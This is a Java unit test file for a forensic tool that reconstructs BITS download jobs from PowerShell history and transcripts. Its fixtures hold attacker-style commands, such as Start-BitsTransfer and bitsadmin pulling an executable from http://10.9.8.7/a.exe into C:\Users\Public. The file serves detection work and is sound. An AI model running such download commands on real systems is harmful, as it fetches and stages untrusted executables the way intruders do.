package org.bitshound.hunt;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.bitshound.casefile.Case;
import org.bitshound.casefile.CaseFile;
import org.bitshound.casefile.Command;
import org.bitshound.casefile.Coverage;
import org.bitshound.casefile.EvidenceKind;
import org.bitshound.casefile.Host;
import org.bitshound.casefile.Kind;
import org.bitshound.casefile.Match;
import org.bitshound.testing.evidence.JobListing;
import org.bitshound.testing.evidence.files.TypedSession;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// What was typed in PowerShell, beside a listing of one job: `http://10.9.8.7/a.exe` to
/// `C:\Users\Public\a.exe`.
class TypedCommandsTest {
  private static final String HISTORY =
      "C/Users/eve/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt";

  @TempDir private Path folder;

  private void write(String path, byte[] bytes) throws IOException {
    Path file = folder.resolve(path);
    Files.createDirectories(file.getParent());
    Files.write(file, bytes);
  }

  private static TypedSession typed(String... commands) {
    return new TypedSession("PC1", "LAB\\eve", List.of(commands));
  }

  private CaseFile document() throws IOException {
    return new Hunted(folder).document();
  }

  private void writeListing() throws IOException {
    Instant then = Instant.parse("2021-03-15T18:43:41Z");
    var listing =
        new JobListing(
            List.of(
                new JobListing.Row(
                    "482fcaf0-74bf-469b-8929-5ccd028c9499",
                    "upd",
                    "Suspended",
                    "LAB\\eve",
                    then,
                    then,
                    "http://10.9.8.7/a.exe",
                    "C:\\Users\\Public\\a.exe",
                    0,
                    -1,
                    "",
                    "")));
    write("jobs.json", listing.json().getBytes(UTF_8));
  }

  @Test
  void typedLineThatNamesBothNamesOfAJobIsLikelyItsCommandAtNoTime() throws IOException {
    writeListing();
    String line = "Start-BitsTransfer -Source $u -Destination C:\\Users\\Public\\a.exe";
    write(HISTORY, typed("dir", "$u = 'http://10.9.8.7/a.exe'", line).history().getBytes(UTF_8));

    CaseFile document = document();
    assertThat(document.cases()).hasSize(1);
    Case one = document.cases().get(0);
    Command command = one.commands().getFirst();
    assertThat(command.text()).isEqualTo(line);
    assertThat(command.time()).isEqualTo(Case.NO_TIME);
    assertThat(command.localTime()).isEmpty();
    assertThat(command.process().orElseThrow().user()).contains("eve");
    assertThat(one.creator().flatMap(by -> by.user())).isEmpty();
    assertThat(one.first()).isEqualTo(Instant.parse("2021-03-15T18:43:41Z"));
    assertThat(one.timeline()).noneMatch(row -> row.what().equals("command"));
    assertThat(one.evidence())
        .filteredOn(row -> command.evidence().contains(row.ref()))
        .singleElement()
        .matches(row -> row.path().endsWith(HISTORY) && row.offset().getAsLong() == 33)
        .matches(row -> row.time().isEmpty());
    assertThat(one.inferred().values())
        .filteredOn(how -> how.how().equals("byNames"))
        .allMatch(how -> how.match() == Match.LIKELY);
    assertThat(document.evidence()).anyMatch(row -> row.kind() == EvidenceKind.POWERSHELL_HISTORY);
    assertThat(new Hunted(folder).json()).doesNotContain("1601");
  }

  @Test
  void typedLineOfNoJobAndNoTimeIsAFactOfTheHost() throws IOException {
    write(HISTORY, typed("Start-BitsTransfer http://a.example/x C:\\x").history().getBytes(UTF_8));

    CaseFile document = document();
    assertThat(document.cases()).isEmpty();
    Host host = document.hosts().getFirst();
    assertThat(host.commands()).extracting(Command::text).allMatch(text -> text.contains("/x"));
    assertThat(host.evidence()).hasSize(1);
    Coverage row =
        host.coverage().stream()
            .filter(one -> one.source().equals("transcripts"))
            .findFirst()
            .orElseThrow();
    assertThat(row.note().orElseThrow()).contains("nothing tells when: 1");
    assertThat(row.records()).hasValue(1);
  }

  @Test
  void commandOfATranscriptIsAnAttemptBetweenTheTimesOfAllZones() throws IOException {
    String text =
        typed("Start-BitsTransfer http://a.example/x C:\\x")
            .transcript("20210315184341", "20210315190000");
    write("t.txt", text.getBytes(UTF_8));

    CaseFile document = document();
    assertThat(document.hosts()).extracting(Host::name).containsExactly("pc1");
    Case one = document.cases().get(0);
    assertThat(one.kind()).isEqualTo(Kind.ATTEMPT);
    assertThat(one.first()).isEqualTo(Instant.parse("2021-03-15T04:43:41Z"));
    assertThat(one.last()).isEqualTo(Instant.parse("2021-03-16T07:00:00Z"));
    assertThat(one.inferred()).containsKeys("first", "last");
    assertThat(one.commands().getFirst().time()).isEqualTo(Case.NO_TIME);
    assertThat(one.commands().getFirst().process().orElseThrow().user()).contains("LAB\\eve");
  }

  @Test
  void timeOfACommandIsTheHostsOwn() throws IOException {
    String text =
        typed("Start-BitsTransfer http://a.example/x C:\\x").transcriptWithTimes("20210315184341");
    write("t.txt", ("\ufeff" + text).getBytes(UTF_16LE));

    Case one = document().cases().get(0);
    assertThat(one.commands().getFirst().localTime()).contains("2021-03-15T18:43:41");
    assertThat(one.first()).isEqualTo(Instant.parse("2021-03-15T04:43:41Z"));
  }

  @Test
  void sessionThatWasCutOffTellsNoBounds() throws IOException {
    String text =
        typed("Start-BitsTransfer http://a.example/x C:\\x").transcript("20210315184341", "");
    write("t.txt", text.getBytes(UTF_8));

    assertThat(document().cases()).isEmpty();
    assertThat(document().hosts().getFirst().commands()).hasSize(1);
    assertThat(document().hosts().getFirst().settings())
        .anyMatch(setting -> setting.name().equals("transcription"));
  }

  @Test
  void historyTellsNoTranscriptionAndOtherNamesTellNoHistory() throws IOException {
    byte[] text = typed("Start-BitsTransfer http://a.example/x C:\\x").history().getBytes(UTF_8);
    write(HISTORY, text);
    write("notes.txt", text);

    CaseFile document = document();
    assertThat(document.hosts().getFirst().settings()).isEmpty();
    assertThat(document.hosts().getFirst().commands()).hasSize(1);
  }

  @Test
  void lineThatNamesAnotherJobOrPlaceJoinsNone() throws IOException {
    writeListing();
    write(
        HISTORY,
        typed(
                "bitsadmin /transfer other http://10.9.8.7/a.exe C:\\Users\\Public\\a.exe",
                "Start-BitsTransfer http://10.9.8.7/a.exe C:\\elsewhere.exe")
            .history()
            .getBytes(UTF_8));

    CaseFile document = document();
    assertThat(document.cases().get(0).commands()).isEmpty();
    assertThat(document.hosts().getFirst().commands()).hasSize(2);
  }
}
